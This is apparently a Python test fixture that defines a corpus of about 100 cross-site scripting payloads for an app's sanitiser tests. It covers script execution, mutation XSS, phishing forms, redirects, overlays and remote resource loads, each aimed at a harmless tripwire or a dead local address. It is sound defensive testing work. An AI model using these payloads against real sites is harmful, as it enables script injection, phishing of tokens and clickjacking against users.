"""The XSS corpus test_xss.py runs over every surface: (attack kind, payload) pairs.

Conventions that make a payload's success observable:

* code that runs sets ``__pwned`` (the page's tripwire) or opens a dialog;
* every remote load points at ``EVIL`` (nothing listens there, and the e2e guard aborts and
  reports any request that leaves 127.0.0.1);
* anything that tries to cover or hide the app is large, fixed or global, so the overlay and
  visibility checks see it if it survives.

Relative URLs that would 404 on the app's server are avoided (the guard fails a test on any
4xx): a broken image is ``data:image/png;base64,AA`` instead of ``x``.
"""

from __future__ import annotations

#: A host nothing listens on; not 127.0.0.1, so the guard treats a request to it as off-site.
EVIL = "http://127.0.0.2:9"
BROKEN = "data:image/png;base64,AA"
PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="

PAYLOADS: list[tuple[str, str]] = [
    # -- script execution: classic, handlers, URLs, mXSS ------------------------------------
    ("script", "<script>__pwned='script'</script>"),
    ("script", f"<img src={BROKEN} onerror=\"__pwned='img onerror'\">"),
    ("script", f"<IMG SRC={BROKEN} OnErRoR=__pwned='mixed-case'>"),
    ("script", "<svg onload=\"__pwned='svg onload'\"></svg>"),
    ("script", "<svg><script>__pwned='svg script'</script></svg>"),
    ("script", "<body onload=\"__pwned='body onload'\">"),
    ("script", "<details open ontoggle=\"__pwned='ontoggle'\"><summary>s</summary></details>"),
    ("script", f"<video><source src={BROKEN} onerror=\"__pwned='source onerror'\"></video>"),
    ("script", f"<audio src={BROKEN} onerror=\"__pwned='audio onerror'\"></audio>"),
    ("script", "<marquee onstart=\"__pwned='marquee'\">m</marquee>"),
    ("script", "<x onclick=\"__pwned='custom tag'\" style=\"display:block\">click</x>"),
    ("script", "<div onmouseover=\"__pwned='hover'\" style=\"height:100px\">hover</div>"),
    ("script", "\"><img src=" + BROKEN + " onerror=\"__pwned='attribute break-out'\">"),
    ("script", "'><script>__pwned='quote break-out'</script>"),
    ("script", "</textarea><script>__pwned='textarea break-out'</script>"),
    ("script", "<scr<script>ipt>__pwned='nested tag'</scr</script>ipt>"),
    ("script", "<template><img src=" + BROKEN + " onerror=\"__pwned='template'\"></template>"),
    ("script", "<svg><foreignObject><img src=" + BROKEN + " onerror=\"__pwned='foreignObject'\"></foreignObject></svg>"),
    ("script", "<svg><animate onbegin=\"__pwned='animate'\" attributeName=x dur=1s></animate></svg>"),
    ("script", "<svg><set attributeName=onload to=\"__pwned='set'\"></set></svg>"),
    ("script", "<iframe src=\"javascript:parent.__pwned='iframe js'\"></iframe>"),
    ("script", "<iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script>\"></iframe>"),
    ("script", "<object data=\"javascript:__pwned='object'\"></object>"),
    ("script", "<embed src=\"javascript:__pwned='embed'\">"),
    ("script", "<input autofocus onfocus=\"__pwned='autofocus'\">"),
    ("script", "<math><mtext><table><mglyph><style><img src=" + BROKEN + " onerror=\"__pwned='mxss math'\">"),
    ("script", "<noscript><p title=\"</noscript><img src=" + BROKEN + " onerror=__pwned='mxss-noscript'>\"></noscript>"),
    ("script", "<svg></p><style><a id=\"</style><img src=" + BROKEN + " onerror=__pwned='mxss-svg-style'>\">"),
    ("script", "<form><math><mtext></form><form><mglyph><style></math><img src=" + BROKEN
     + " onerror=\"__pwned='mxss form'\">"),
    ("script", "<a href=\"javascript:__pwned='js link'\" id=jslink>js link</a>"),
    ("script", "<a href=\"JaVaScRiPt:__pwned='js case'\">js case</a>"),
    ("script", "<a href=\"&#106;avascript:__pwned='js entity'\">js entity</a>"),
    ("script", "<a href=\"java\tscript:__pwned='js tab'\">js tab</a>"),
    ("script", "[markdown link](javascript:__pwned='md link')"),
    ("script", "![markdown image](javascript:__pwned='md image')"),
    ("script", "<a href=\"data:text/html,<script>__pwned='data html'</script>\">data link</a>"),
    ("script", "<svg><a xlink:href=\"javascript:__pwned='svg link'\"><text x=10 y=10>svg link</text></a></svg>"),
    ("script", "<div style=\"background:url(javascript:__pwned='css js')\">css js</div>"),
    ("script", "<pyinterface-app src=\"" + EVIL + "/app.py\"></pyinterface-app>"),
    # -- forms: phishing, reloads ------------------------------------------------------------
    ("form", "<form action=\"" + EVIL + "/steal\"><input type=password name=token placeholder=\"HF token\">"
     "<button>Sign in</button></form>"),
    ("form", "<form><input name=q><button>Go</button></form>"),
    ("form", "<form method=post action=\"//127.0.0.2:9/post\"><input type=submit value=Send></form>"),
    ("form", "<button formaction=\"" + EVIL + "/formaction\">formaction</button>"),
    ("form", "<input type=image src=\"" + EVIL + "/input.png\">"),
    ("form", "<input type=password placeholder=\"Your password\">"),
    ("form", "<textarea name=secret>text</textarea>"),
    ("form", "<select name=s><option>one</option></select>"),
    ("form", "<isindex action=\"" + EVIL + "/isindex\">"),
    ("form", "<label>Token <input name=token></label>"),
    # -- navigation and the page's head ------------------------------------------------------
    ("navigation", "<meta http-equiv=refresh content=\"0;url=" + EVIL + "/refresh\">"),
    ("navigation", "<base href=\"" + EVIL + "/\"><a href=\"relative\">relative</a>"),
    ("navigation", "<link rel=stylesheet href=\"" + EVIL + "/style.css\">"),
    ("navigation", "<link rel=prefetch href=\"" + EVIL + "/prefetch\">"),
    ("navigation", "<a href=\"#\" ping=\"" + EVIL + "/ping\">ping</a>"),
    ("navigation", "<dialog open>dialog</dialog>"),
    ("navigation", "<div popover id=pop>popover</div>"),
    ("navigation", "<iframe src=\"" + EVIL + "/frame\"></iframe>"),
    # -- cover or hide the app ----------------------------------------------------------------
    ("overlay", "x<style>*{display:none!important}</style>"),
    ("overlay", "x<svg><style>*{visibility:hidden!important}</style></svg>"),
    ("overlay", "<div style=\"position:fixed;inset:0;background:red;z-index:2147483647\">cover</div>"),
    ("overlay", "<div style=\"position:absolute;top:0;left:0;width:100vw;height:100vh;background:red\">abs</div>"),
    ("overlay", "<div style=\"position:sticky;top:0;height:100vh;background:red\">sticky</div>"),
    ("overlay", "<div style=\"position: FIXED ; top:0; left:0; width:100vw; height:100vh\">caps</div>"),
    ("overlay", "<div style=\"position:fixed !important;inset:0 !important;background:red\">important</div>"),
    ("overlay", "<div style=\"--p:fixed;position:var(--p);inset:0;background:red\">var</div>"),
    ("overlay", "<div style=\"transform:scale(200);background:red\">scaled</div>"),
    ("overlay", "<div style=\"scale:200;background:red\">scale property</div>"),
    ("overlay", "<svg style=\"position:fixed;inset:0;width:100vw;height:100vh\"><rect width=\"100%\" height=\"100%\" "
     "fill=red></rect></svg>"),
    ("overlay", "<img style=\"position:fixed;inset:0;width:100vw;height:100vh\" src=\"" + PIXEL + "\">"),
    ("overlay", "<a href=\"" + EVIL + "/clickjack\" style=\"position:fixed;inset:0;display:block\">jack</a>"),
    ("overlay", "<div style=\"position:relative;top:-100vh;left:-100vw;width:300vw;height:300vh;background:red\">"
     "relative</div>"),
    ("overlay", "<p style=\"box-shadow:0 0 0 100vmax red\">shadow</p>"),
    ("overlay", "<div style=\"margin-top:-5000px;height:10000px;background:red\">margin</div>"),
    # -- remote loads -------------------------------------------------------------------------
    ("remote load", "<img src=\"" + EVIL + "/img.png\">"),
    ("remote load", "<img src=\"//127.0.0.2:9/protocol-relative.png\">"),
    ("remote load", "<img src=\"http:\\\\127.0.0.2:9/backslash.png\">"),
    ("remote load", "<img src=\"" + EVIL + "/lazy.png\" loading=lazy>"),
    ("remote load", "<img srcset=\"" + EVIL + "/srcset.png 1x, " + EVIL + "/srcset2.png 2x\">"),
    ("remote load", "<picture><source srcset=\"" + EVIL + "/picture.png\"><img alt=p></picture>"),
    ("remote load", "<table background=\"" + EVIL + "/table.png\"><tr><td background=\"" + EVIL
     + "/td.png\">cell</td></tr></table>"),
    ("remote load", "<svg><image href=\"" + EVIL + "/svg-image.png\" width=10 height=10></image></svg>"),
    ("remote load", "<svg><image xlink:href=\"" + EVIL + "/svg-xlink.png\" width=10 height=10></image></svg>"),
    ("remote load", "<svg><use href=\"" + EVIL + "/use.svg#a\"></use></svg>"),
    ("remote load", "<svg><filter id=f><feImage href=\"" + EVIL + "/feimage.png\"></feImage></filter>"
     "<rect filter=url(#f) width=5 height=5></rect></svg>"),
    ("remote load", "<svg><rect fill=\"url(" + EVIL + "/fill.svg#g)\" width=5 height=5></rect></svg>"),
    ("remote load", "<div style=\"background-image:url(" + EVIL + "/bg.png);height:5px\">bg</div>"),
    ("remote load", "<div style=\"background:url('//127.0.0.2:9/bg2.png') red;height:5px\">bg2</div>"),
    ("remote load", "<div style=\"background-image:image-set('" + EVIL + "/image-set.png' 1x);height:5px\">set</div>"),
    ("remote load", "<ul style=\"list-style-image:url(" + EVIL + "/list.png)\"><li>li</li></ul>"),
    ("remote load", "<div style=\"cursor:url(" + EVIL + "/cursor.png),auto\">cursor</div>"),
    ("remote load", "<div style=\"mask-image:url(" + EVIL + "/mask.png);height:5px\">mask</div>"),
    ("remote load", "<div style=\"border:5px solid;border-image:url(" + EVIL + "/border.png) 30\">border</div>"),
    ("remote load", "<div style=\"--i:url(" + EVIL + "/custom-prop.png);background-image:var(--i);height:5px\">v</div>"),
    ("remote load", "<video poster=\"" + EVIL + "/poster.png\" src=\"" + EVIL + "/video.mp4\"></video>"),
    ("remote load", "<audio src=\"" + EVIL + "/audio.mp3\" autoplay></audio>"),
    ("remote load", "<video><source src=\"" + EVIL + "/source.mp4\"><track src=\"" + EVIL + "/track.vtt\"></video>"),
    ("remote load", "<style>@import \"" + EVIL + "/import.css\";</style>"),
    ("remote load", "x<style>@import url(" + EVIL + "/import2.css);body{background:url(" + EVIL
     + "/style-bg.png)}</style>"),
    ("remote load", "![markdown image](" + EVIL + "/markdown.png)"),
    ("remote load", "<object data=\"" + EVIL + "/object.swf\"></object><embed src=\"" + EVIL + "/embed.swf\">"),
    ("remote load", "<body background=\"" + EVIL + "/body.png\">body"),
]


def payloads() -> list[str]:
    return [payload for _, payload in PAYLOADS]
